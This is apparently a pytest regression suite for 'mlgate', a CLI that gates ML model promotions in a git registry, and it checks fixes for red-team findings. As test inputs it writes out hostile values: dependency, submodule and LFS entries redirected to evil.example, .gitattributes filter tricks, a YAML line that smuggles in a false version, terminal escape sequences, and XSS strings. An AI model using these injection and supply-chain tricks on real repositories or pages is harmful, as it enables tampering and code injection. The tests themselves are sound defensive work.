"""Regression tests for the gate defects a red-team review found: each failed on the code before the fix.

Every case runs the real CLI on a real git repository of the example registry, as CI would judge it.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from mlgate.audit.history import history, holder_at
from mlgate.check.gates import card_sections
from mlgate.cli import main
from mlgate.testing import RegistryRepo

FD = "registry/models/fraud-detector"
CHAMP = f"{FD}/aliases/champion.yaml"
ALIAS = "apiVersion: mlgate/v1\nkind: Alias\nmodel: fraud-detector\nalias: champion\n"


def judge(repo: RegistryRepo, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, dict, str]:
    code = main(["-C", str(repo.root), "validate", "--format", "json", *extra])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, (json.loads(out) if out.strip().startswith("{") else {}), err


def pr(repo: RegistryRepo, mutate, name: str = "pr") -> None:
    repo.branch(name, "main")
    mutate(repo)
    repo.commit(name, author="pr-author <pr-author@example.com>")
    repo.switch("main")


def errors(report: dict) -> set[tuple[str, str]]:
    return {(f["rule"], f["path"]) for f in report["findings"] if f["severity"] == "error"}


# --- 1. the rollback-gate bypass: one reader for an alias file's version ----------------------------------

SMUGGLED = ALIAS + 'note: "looks harmless\nversion: 1\nreally"\nversion: 0x2\n'


def test_a_smuggled_version_line_does_not_make_a_promotion_a_rollback(lab, capsys) -> None:
    repo, forge = lab
    # step 1: a "note-only" edit that hides `version: 1` in a quoted multi-line note; 0x2 is the integer 2
    pr(repo, lambda r: r.write(CHAMP, SMUGGLED), "note-edit")
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "note-edit")
    assert code == 0 and report["gates"] == []  # truly only a note: champion stays at 2
    repo.merge("note-edit", message="Merge pull request #7 from acme/note-edit")
    assert holder_at(repo.root, "fraud-detector", "champion", at="main")[0] == 2
    assert not [e for e in history(repo.root, model="fraud-detector", alias="champion").events if e.pr == 7]
    # step 2: promote v1 (worse than v2): it was never champion, so the full gate applies, not the rollback gate
    pr(repo, lambda r: r.write(CHAMP, ALIAS + "version: 1\n"), "to-v1")
    forge.open_pull_request(title="v1", body="", head="to-v1", base="main", labels=[], author="pr-author")
    forge.review(1, "dave", "APPROVED")
    code, report, _ = judge(repo, capsys, "--forge", "local", "--pr", "1")
    assert code == 1
    (change,) = report["gates"]
    assert change["kind"] == "promotion" and change["status"] == "fail"
    assert ("MG403", CHAMP) in errors(report)


def test_history_whois_and_the_gate_read_the_same_version(repo: RegistryRepo) -> None:
    repo.write(CHAMP, SMUGGLED)
    repo.commit("note")
    assert holder_at(repo.root, "fraud-detector", "champion", at="main")[0] == 2
    events = history(repo.root, model="fraud-detector", alias="champion").events
    assert [(e.kind, e.to_version) for e in events] == [("promotion", 2)]  # the note commit is no event


# --- 2, 3. everything that decides how a PR is judged is protected ---------------------------------------


@pytest.mark.parametrize(
    "path,content",
    [
        (".github/mlgate-requirements.txt", "mlgate @ git+https://evil.example/mlgate.git\n"),
        (".gitattributes", "*.yaml working-tree-encoding=UTF-16LE\n"),
        ("registry/.gitattributes", "*.yaml filter=evil\n"),
        ("docs/deep/.gitattributes", "* -text\n"),
        (".gitmodules", '[submodule "registry"]\n\tpath = registry\n\turl = https://evil.example/r.git\n'),
        (".github/actions/setup/action.yml", "runs: {using: composite, steps: []}\n"),
        (".lfsconfig", "[lfs]\n\turl = https://evil.example/lfs\n"),
    ],
)
def test_changes_to_what_judges_a_pr_need_an_admin(lab, capsys, path: str, content: str) -> None:
    repo, forge = lab
    pr(repo, lambda r: r.write(path, content))
    forge.open_pull_request(title="x", body="", head="pr", base="main", labels=[], author="pr-author")
    forge.review(1, "dave", "APPROVED")  # a lead, not an admin
    code, report, _ = judge(repo, capsys, "--forge", "local", "--pr", "1")
    assert code == 1 and ("MG501", path) in errors(report)
    forge.review(1, "pat", "APPROVED")  # an admin
    code, report, _ = judge(repo, capsys, "--forge", "local", "--pr", "1")
    assert ("MG501", path) not in errors(report)


def test_a_file_added_to_a_merged_version_is_an_immutability_violation(repo: RegistryRepo, capsys) -> None:
    path = f"{FD}/versions/2/.gitattributes"
    pr(repo, lambda r: r.write(path, "*.yaml working-tree-encoding=UTF-16LE\n"))
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1
    assert {("MG301", path), ("MG201", path)} <= errors(report)


@pytest.mark.parametrize("name", [".env", ".hidden/alias.yaml", "aliases/.champion.yaml"])
def test_dotfiles_have_no_place_in_the_registry(repo: RegistryRepo, capsys, name: str) -> None:
    path = f"{FD}/{name}"
    pr(repo, lambda r: r.write(path, "x: 1\n"))
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1 and ("MG201", path) in errors(report)


def test_gitkeep_is_still_allowed_outside_versions(repo: RegistryRepo, capsys) -> None:
    pr(repo, lambda r: r.write("registry/models/.gitkeep", ""))
    code, _, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 0


# --- 4. names and logins are whole strings ---------------------------------------------------------------


def test_an_alias_file_name_with_a_trailing_newline_is_not_an_alias(repo: RegistryRepo, capsys) -> None:
    path = f"{FD}/aliases/champion\n.yaml"
    pr(repo, lambda r: r.write(path, ALIAS.replace("champion", "'champion\n\n'") + "version: 1\n"))
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1 and ("MG201", path) in errors(report)
    assert all(g["alias"] != "champion\n" for g in report["gates"])


def test_a_name_field_with_a_trailing_newline_fails_its_schema(repo: RegistryRepo, capsys) -> None:
    pr(repo, lambda r: r.write(CHAMP, ALIAS.replace("alias: champion", 'alias: "champion\\n"') + "version: 2\n"))
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1 and ("MG101", CHAMP) in errors(report)


@pytest.mark.parametrize("login", ["carol\n", "carol ", "ca rol", "\ncarol", "carol\x1b[0m"])
def test_a_login_must_be_a_whole_login(repo: RegistryRepo, capsys, login: str) -> None:
    code = main(["-C", str(repo.root), "promote", "fraud-detector", "3", "--alias", "challenger", "--as", login])
    out, err = capsys.readouterr()
    assert code == 2 and "is not a login" in err and "Traceback" not in err
    assert "\x1b" not in err


@pytest.mark.parametrize("alias", ["Champion", "champion\n", "CHAMPION", "champ ion"])
def test_gate_refuses_an_alias_that_is_not_a_name(repo: RegistryRepo, capsys, alias: str) -> None:
    code = main(["-C", str(repo.root), "gate", "fraud-detector", "1", "--alias", alias])
    _, err = capsys.readouterr()
    assert code == 2 and "is not a valid alias name" in err


# --- 10. numbers: bounded, exact --------------------------------------------------------------------------


def _eval_with(repo: RegistryRepo, version: int, metric: str, text: str) -> None:
    path = f"{FD}/versions/{version}/eval.yaml"
    lines = repo.path(path).read_text().splitlines()
    out, done = [], False
    for line in lines:
        if line.startswith(f"  {metric}:") and not done:
            line, done = f"  {metric}: {text}", True
        out.append(line)
    repo.write(path, "\n".join(out) + "\n")


@pytest.mark.parametrize("text", ["1" + "0" * 400, "9" * 5000, "0x" + "f" * 40, "-" + "1" * 19])
def test_huge_integers_are_a_finding_not_a_crash(repo: RegistryRepo, capsys, text: str) -> None:
    def mutate(r: RegistryRepo) -> None:
        r.add_version("fraud-detector", 4, like=3)
        _eval_with(r, 4, "latency_p99_ms", text)
        r.edit_yaml(CHAMP, version=4)

    pr(repo, mutate)
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1
    (finding,) = [f for f in report["findings"] if f["path"] == f"{FD}/versions/4/eval.yaml"]
    assert (finding["rule"], finding["field"]) == ("MG001", "metrics.latency_p99_ms") and finding["line"]
    assert "more than 18 digits" in finding["message"]
    repo.switch("pr")
    for args in (["gate", "fraud-detector", "4", "--alias", "champion"], ["show", "fraud-detector", "4"], ["validate"]):
        code = main(["-C", str(repo.root), *args])
        out, err = capsys.readouterr()
        assert code in (1, 2) and "internal error" not in err and "Traceback" not in out + err, args


def test_metric_bounds_compare_the_decimal_as_written(repo: RegistryRepo, capsys) -> None:
    def mutate(r: RegistryRepo) -> None:
        r.add_version("fraud-detector", 4, like=3)
        _eval_with(r, 4, "auc", "0.84999999999999999")  # the same double as 0.85, but below it

    pr(repo, mutate)
    repo.switch("pr")
    code = main(["-C", str(repo.root), "gate", "fraud-detector", "4", "--alias", "champion", "--format", "json"])
    change = json.loads(capsys.readouterr()[0])
    assert code == 1
    auc = next(c for c in change["checks"] if c["gate"] == "metric auc")
    assert auc["status"] == "fail" and "below the minimum" in auc["reason"]


# --- 11. untrusted text neutralised per output -------------------------------------------------------------


def test_escape_sequences_in_manifests_are_refused(repo: RegistryRepo, capsys) -> None:
    model = repo.read_yaml(f"{FD}/model.yaml")
    pr(
        repo,
        lambda r: r.write(
            f"{FD}/model.yaml",
            (
                r.path(f"{FD}/model.yaml").read_text()
                + 'deprecated:\n  - {version: 1, reason: "\\e[8mhidden\\e]8;;http://x\\a"}\n'
            ),
        ),
    )
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1 and ("MG001", f"{FD}/model.yaml") in errors(report)
    assert "U+001B" in next(f["message"] for f in report["findings"] if f["rule"] == "MG001")
    assert model["name"] == "fraud-detector"


def test_file_names_never_reach_the_terminal_raw(repo: RegistryRepo, capsys) -> None:
    path = f"{FD}/aliases/\x1b[2J\x1b]8;;https://evil.example\x07x.yaml"
    pr(repo, lambda r: r.write(path, ALIAS + "version: 2\n"))
    code = main(["-C", str(repo.root), "validate", "--base", "main", "--head", "pr"])
    out, err = capsys.readouterr()
    assert code == 1 and "MG201" in out
    assert "\x1b" not in out + err and "\\x1b[2J" in out


def test_markdown_report_escapes_html_links_and_comments(repo: RegistryRepo, capsys) -> None:
    reason = "<img src=x onerror=alert(1)> [ok](javascript:alert(1)) <!-- hide --> | `x` **bold**"

    def mutate(r: RegistryRepo) -> None:
        data = r.read_yaml(f"{FD}/model.yaml")
        data["deprecated"] = [{"version": 3, "reason": reason}]
        r.write(f"{FD}/model.yaml", data)
        r.edit_yaml(CHAMP, version=3)

    pr(repo, mutate)
    code = main(["-C", str(repo.root), "validate", "--base", "main", "--head", "pr", "--format", "markdown"])
    md = capsys.readouterr()[0]
    assert code == 1
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<img" not in html and "<a " not in html
    assert 'href="javascript' not in html and "<!-- hide -->" not in html and "<strong>bold</strong>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


# --- 12. card sections found by a CommonMark parser ----------------------------------------------------------


@pytest.mark.parametrize(
    "card,section",
    [
        ("## Intended use\n\u200b\n## Training data\nx\n", "intended use"),
        ("## Intended use\n\u2060\ufeff\u00ad \n", "intended use"),
        ("## Intended use\n<!-- TODO -->\n", "intended use"),
        ("## Intended use\n<div>\n</div>\n", "intended use"),
    ],
)
def test_a_section_without_visible_text_is_empty(card: str, section: str) -> None:
    assert card_sections(card)[section] is False


def test_a_heading_inside_a_fence_holding_a_tilde_line_is_not_a_heading() -> None:
    card = "## Intended use\nx\n```\n~~~\n## Limitations\n```\nmore\n"
    assert "limitations" not in card_sections(card)


def test_setext_headings_are_headings() -> None:
    assert card_sections("Limitations\n-----------\nSmall data.\n") == {"limitations": True}


# --- 14. consistent outcomes -----------------------------------------------------------------------------------


def test_a_huge_card_fails_its_gate_with_a_report(repo: RegistryRepo, capsys) -> None:
    def mutate(r: RegistryRepo) -> None:
        r.add_version("fraud-detector", 4, like=3, card="# Card\n## Intended use\n" + "x" * (16 * 1024 * 1024) + "\n")
        r.edit_yaml(CHAMP, version=4)

    pr(repo, mutate)
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1
    (change,) = report["gates"]
    card = next(c for c in change["checks"] if c["gate"] == "evidence card")
    assert card["status"] == "fail" and "evidence files are limited to" in card["reason"]


def test_an_internal_error_exits_3(repo: RegistryRepo, tmp_path: Path) -> None:
    """A bug (an exception mlgate did not raise on purpose) exits 3 with one line, distinct from bad input (2)."""
    script = (
        "import sys, mlgate.registry.snapshot as r\n"
        "def boom(*a, **k): raise KeyError('bug')\n"
        "r.Registry.model_names = boom\n"
        "from mlgate.cli import main\n"
        f"sys.exit(main(['-C', {str(repo.root)!r}, 'list']))\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert proc.returncode == 3
    assert proc.stderr.startswith("mlgate: internal error: KeyError") and "Traceback" not in proc.stderr


# --- 9. no symlink leads out of the repository ---------------------------------------------------------------


@pytest.fixture
def linked(repo: RegistryRepo, tmp_path: Path) -> RegistryRepo:
    """registry/ replaced by a symlink to a registry outside the repository."""
    outside = tmp_path / "outside"
    repo.path("registry").rename(outside)
    repo.symlink("registry", str(outside))
    return repo


@pytest.mark.parametrize(
    "args", [["list"], ["resolve", "models:/fraud-detector@champion"], ["index"], ["show", "fraud-detector"]]
)
def test_a_symlinked_registry_is_never_read_through(linked: RegistryRepo, capsys, args: list[str]) -> None:
    code = main(["-C", str(linked.root), *args])
    out, err = capsys.readouterr()
    assert code == 2 and "symlink" in err and "fraud-detector" not in out


def test_validate_reports_a_symlinked_registry(linked: RegistryRepo, capsys) -> None:
    code = main(["-C", str(linked.root), "validate", "--format", "json"])
    report = json.loads(capsys.readouterr()[0])
    assert code == 1 and ("MG208", "registry") in errors(report)


def test_a_symlinked_aliases_folder_is_not_followed(repo: RegistryRepo, tmp_path: Path, capsys) -> None:
    outside = tmp_path / "evil-aliases"
    outside.mkdir()
    (outside / "champion.yaml").write_text(ALIAS + "version: 1\n")
    repo.delete(f"{FD}/aliases")
    repo.symlink(f"{FD}/aliases", str(outside))
    code = main(["-C", str(repo.root), "resolve", "models:/fraud-detector@champion"])
    _, err = capsys.readouterr()
    assert code == 2 and "no alias 'champion' of model 'fraud-detector' in working tree (aliases: none)" in err


def test_init_never_writes_through_a_symlink(tmp_path: Path, capsys) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = RegistryRepo.create(tmp_path / "fresh", example=False)
    target.symlink("registry", str(outside))
    code = main(
        ["init", str(target.root), "--mlgate-requirement", "mlgate @ git+https://github.com/acme/mlgate@" + "c" * 40]
    )
    _, err = capsys.readouterr()
    assert code == 2 and "refusing to write through a symlink: registry" in err
    assert list(outside.iterdir()) == [] and not target.path(".github").exists()


def test_the_library_refuses_a_requester_or_reviewer_that_is_not_a_login(lab) -> None:
    """Not only the CLI: a script calling mlgate's library with "carol\\n" cannot slip past the author check."""
    from mlgate.change.propose import promote
    from mlgate.errors import UsageError
    from mlgate.forge import ForgeError

    repo, forge = lab
    with pytest.raises(UsageError, match="is not a login"):
        promote(repo.root, "fraud-detector", 3, "shadow", author="carol\n", forge=forge)
    proposal = promote(repo.root, "fraud-detector", 3, "shadow", author="carol", forge=forge)
    with pytest.raises(ForgeError, match="is not a login"):
        forge.review(proposal.pr.number, "carol\n", "APPROVED")


@pytest.mark.parametrize(
    "args",
    [
        ["promote", "fraud-detector", "3", "--alias", "Champion"],
        ["promote", "Fraud-Detector", "3", "--alias", "champion"],
        ["rollback", "fraud-detector", "--alias", "Champion"],
        ["rollback", "fraud-detector", "--alias", "champion\n"],
        ["promote", "fraud-detector", "3", "--alias", "latest"],
        ["promote", "fraud-detector", "3", "--alias", "v3"],
        ["resolve", "models:/fraud-detector@cham pion"],
    ],
)
def test_write_and_read_commands_refuse_names_that_are_not_names(repo: RegistryRepo, capsys, args: list[str]) -> None:
    before = repo.status()
    code = main(["-C", str(repo.root), *args, *(["--as", "carol"] if args[0] != "resolve" else [])])
    _, err = capsys.readouterr()
    assert code == 2 and "is not a valid" in err and repo.status() == before


# --- found by a second red-team pass ---------------------------------------------------------------------------


@pytest.mark.parametrize("created_at", ["0001-01-01T00:00:00Z", "0001-01-01T23:00:00+23:00"])
def test_a_created_at_at_the_dawn_of_time_is_no_crash(repo: RegistryRepo, capsys, created_at: str) -> None:
    def mutate(r: RegistryRepo) -> None:
        r.add_version("fraud-detector", 4, like=3)
        r.edit_yaml(f"{FD}/versions/4/version.yaml", created_at=created_at)
        r.edit_yaml(f"{FD}/aliases/challenger.yaml", version=4)

    pr(repo, mutate)
    code, report, err = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1 and "internal error" not in err and report["gates"]


@pytest.mark.parametrize("blank", ["\u2800", "\u3164", "\uffa0", "\u115f\u1160"])
def test_blank_looking_letters_are_not_content(blank: str) -> None:
    assert card_sections(f"## Intended use\n{blank}\n")["intended use"] is False


@pytest.mark.parametrize("target", ["Fraud-Detector@champion", "../../x@champion", "fraud-detector@champion\n"])
def test_whois_refuses_names_that_are_not_names(repo: RegistryRepo, capsys, target: str) -> None:
    code = main(["-C", str(repo.root), "whois", target, "--at", "HEAD"])
    _, err = capsys.readouterr()
    assert code == 2 and "is not a valid" in err


def test_index_never_replaces_something_that_is_not_a_file(repo: RegistryRepo, tmp_path: Path, capsys) -> None:
    target = tmp_path / "a-folder"
    target.mkdir()
    link = tmp_path / "link.json"
    link.symlink_to(tmp_path / "elsewhere.json")
    for out in (target, link):
        code = main(["-C", str(repo.root), "index", "-o", str(out)])
        _, err = capsys.readouterr()
        assert code == 2 and "is not a regular file" in err
    assert target.is_dir() and link.is_symlink() and not (tmp_path / "elsewhere.json").exists()


@pytest.mark.parametrize("path", ["scripts/mlgate/gates.py", "pyproject.toml", "schemas/alias.schema.json", ".ci/run"])
def test_the_validator_code_a_policy_protects_needs_an_admin(lab, capsys, path: str) -> None:
    """Where the workflows install mlgate from the repository itself, the policy's `protect` list makes its code,
    schemas and CI governance: a pull request changing them needs an admin, like a workflow change."""
    repo, forge = lab
    pr(repo, lambda r: r.write(path, "# changed\n"))
    forge.open_pull_request(title="x", body="", head="pr", base="main", labels=[], author="pr-author")
    forge.review(1, "dave", "APPROVED")
    code, report, _ = judge(repo, capsys, "--forge", "local", "--pr", "1")
    assert code == 1 and ("MG501", path) in errors(report)
    forge.review(1, "pat", "APPROVED")
    code, report, _ = judge(repo, capsys, "--forge", "local", "--pr", "1")
    assert code == 0, report


def test_a_protect_list_added_by_the_pr_itself_does_not_count(lab, capsys) -> None:
    """The protect list is read from the base: removing `scripts/` from it in the same PR changes nothing."""
    repo, forge = lab

    def mutate(r: RegistryRepo) -> None:
        r.write(
            "registry/policy.yaml",
            r.path("registry/policy.yaml")
            .read_text()
            .replace("protect: [pyproject.toml, scripts/, schemas/, .ci/]", "protect: []"),
        )
        r.write("scripts/mlgate/gates.py", "# weakened\n")

    pr(repo, mutate)
    code, report, _ = judge(repo, capsys, "--base", "main", "--head", "pr")
    assert code == 1 and {("MG501", "scripts/mlgate/gates.py"), ("MG501", "registry/policy.yaml")} <= {
        (f["rule"], f["path"]) for f in report["findings"]
    }
